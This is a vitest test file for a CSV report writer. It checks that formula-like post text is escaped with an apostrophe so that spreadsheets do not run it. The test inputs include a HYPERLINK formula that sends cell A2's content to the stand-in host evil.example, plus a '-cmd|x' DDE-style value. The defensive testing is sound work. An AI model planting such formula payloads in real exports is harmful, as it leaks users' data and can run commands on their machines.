import { expect, test } from 'vitest';
import { writeCsv } from '@/shared/insights/report/csv.ts';
import { toImportedItems } from '@/shared/insights/sources/imported.ts';
import { reportOn } from '@/tests/evals/insights/read-voices.ts';

test.each([
  ['=HYPERLINK("http://evil.example/?"&A2,\n"Open") the kayak', `"'=HYPERLINK(`],
  ['A nice kayak;=1+1; and more', "A nice kayak;'=1+1;"],
  ['A nice kayak; -cmd|x', "A nice kayak; '-cmd|x"],
  ['A nice kayak ;-) for rivers', 'A nice kayak ;-) for rivers'],
])('no spreadsheet runs a post (faults F24): %j', (text, written) => {
  const { items } = reportOn(
    { query: 'kayak' },
    toImportedItems([{ text: 'A nice kayak.', author: 'somebody' }]),
  );
  expect(items).toHaveLength(1);
  expect(writeCsv(items.map((item) => ({ ...item, text })))).toContain(written);
});
